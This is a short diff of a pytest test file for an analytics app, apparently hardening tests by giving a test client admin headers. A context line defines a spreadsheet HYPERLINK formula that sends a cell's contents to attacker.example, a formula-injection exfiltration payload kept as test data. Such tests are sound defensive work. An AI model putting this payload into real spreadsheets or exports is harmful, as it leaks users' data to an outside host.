@@ -19,10 +19,10 @@ FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 
 
 @pytest.fixture
-def private(engine):  # type: ignore[no-untyped-def]
+def private(engine, as_admin):  # type: ignore[no-untyped-def]
     from fuelstats.analytics.app import create_app
 
-    with create_app().test_client(client=("127.0.0.1", 40000)) as client:
+    with create_app().test_client(client=("127.0.0.1", 40000), headers=as_admin) as client:
         yield client
 
 
